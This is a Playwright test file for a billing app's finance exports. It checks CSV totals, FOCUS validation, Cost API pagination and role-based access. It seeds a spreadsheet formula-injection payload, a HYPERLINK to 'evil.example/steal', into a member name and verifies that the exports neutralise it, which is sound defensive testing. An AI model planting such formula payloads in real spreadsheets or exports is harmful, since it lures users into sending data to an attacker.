import fs from "node:fs";

import { expect, test } from "@playwright/test";
import { parse } from "csv-parse/sync";

import { validateFocusCsv } from "../lib/exports/focus-validate";
import { e2eDay } from "./clock";
import { runFixture } from "./fixtures/run-fixture";
import { storageStateFor } from "./roles";
import { saveScreenshot } from "./screenshots";

const EVIL = '=HYPERLINK("http://evil.example/steal","Click me")';

function micros(decimal: string): bigint {
  const [whole = "0", frac = ""] = decimal.replace("-", "").split(".");
  const v = BigInt(whole) * 1_000_000n + BigInt((frac + "000000").slice(0, 6));
  return decimal.startsWith("-") ? -v : v;
}

test.describe("finance exports", () => {
  test.use({ storageState: storageStateFor("finance") });

  test.beforeAll(() => {
    runFixture("hyperlink");
  });

  test("downloads the chargeback CSV whose totals match the overview, with formula names neutralised", async ({
    page,
  }, testInfo) => {
    const overview = (await (await page.request.get("/api/overview")).json()) as {
      totals: { costMicros: string; creditsMicros: string };
      period: { start: string; end: string };
    };
    await page.goto("/exports");
    await expect(page.getByTestId("export-total-billed")).toBeVisible();
    await page.getByTestId("group-by-member").check();
    await expect(page.getByText(/Preview: first \d+ of/)).toBeVisible();
    await expect(page.getByTestId("export-preview")).toContainText("@acme.example");
    await saveScreenshot(page, "exports-finance", { attachTo: testInfo });

    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByTestId("download-chargeback").click(),
    ]);
    expect(download.suggestedFilename()).toBe(
      `allotment-chargeback-acme-engineering-${overview.period.start}_${overview.period.end}-by-cost_center-member.csv`,
    );
    const text = fs.readFileSync((await download.path())!, "utf8");
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    const billed = rows.reduce((s, r) => s + micros(r.billed_usd!), 0n);
    const credits = rows.reduce((s, r) => s + micros(r.credits!), 0n);
    expect(billed).toBe(BigInt(overview.totals.costMicros));
    expect(credits).toBe(BigInt(overview.totals.creditsMicros));
    expect(rows.some((r) => r.member_email === "(unattributed)")).toBe(true);
    const evil = rows.find((r) => r.member_name?.includes("HYPERLINK"));
    expect(evil?.member_name).toBe(`'${EVIL}`);
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
    // the preview describes the same file
    await expect(page.getByTestId("export-row-count")).toHaveText(
      rows.length.toLocaleString("en-US"),
    );
  });

  test("the FOCUS 1.2 export passes the validator", async ({ page }) => {
    await page.goto("/exports");
    await expect(page.getByTestId("download-focus")).toBeVisible();
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByTestId("download-focus").click(),
    ]);
    const text = fs.readFileSync((await download.path())!, "utf8");
    expect(validateFocusCsv(text)).toEqual([]);
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    expect(rows.length).toBeGreaterThan(100);
    expect(rows.some((r) => r.x_MemberName === `'${EVIL}`)).toBe(true);
  });

  test("the Cost API pages through 90 days with a token and adds up to the chargeback export", async ({
    page,
    playwright,
  }) => {
    const { token } = runFixture<{ token: string }>("token");
    const api = await playwright.request.newContext({
      baseURL: test.info().project.use.baseURL,
      storageState: { cookies: [], origins: [] },
      extraHTTPHeaders: { authorization: `Bearer ${token}` },
    });
    const end = e2eDay(0);
    const start = e2eDay(-90);
    let next: string | null = null;
    let pages = 0;
    let buckets = 0;
    let total = 0n;
    do {
      const res = await api.get(
        `/api/v1/costs?start=${start}&end=${end}&bucket_width=1d&group_by=member,product,model&limit=31${next ? `&page=${next}` : ""}`,
      );
      expect(res.status()).toBe(200);
      const body = (await res.json()) as {
        object: string;
        data: { results: { amount: { value: string } }[] }[];
        has_more: boolean;
        next_page: string | null;
      };
      expect(body.object).toBe("page");
      pages++;
      buckets += body.data.length;
      for (const b of body.data) for (const r of b.results) total += micros(r.amount.value);
      next = body.next_page;
      expect(body.has_more).toBe(next !== null);
    } while (next && pages < 10);
    expect(pages).toBe(3);
    expect(buckets).toBe(90);
    const last = e2eDay(-1);
    const csv = await page.request.get(
      `/api/exports/chargeback?period=custom&start=${start}&end=${last}&group_by=`,
    );
    const rows = parse(await csv.text(), { columns: true }) as Record<string, string>[];
    expect(total).toBe(rows.reduce((s, r) => s + micros(r.billed_usd!), 0n));
    expect(
      (
        await api.get(`/api/v1/costs?start=${start}`, { headers: { authorization: "Bearer nope" } })
      ).status(),
    ).toBe(401);
    await api.dispose();
  });
});

test.describe("exports are for finance, admins and owners", () => {
  test.use({ storageState: storageStateFor("engineer") });
  test("an engineer gets 403 from the export routes", async ({ page }) => {
    await page.goto("/overview");
    expect((await page.request.get("/api/exports/chargeback")).status()).toBe(403);
    expect((await page.request.get("/api/exports/focus")).status()).toBe(403);
    expect((await page.goto("/alerts"))?.status()).toBe(403);
  });
});
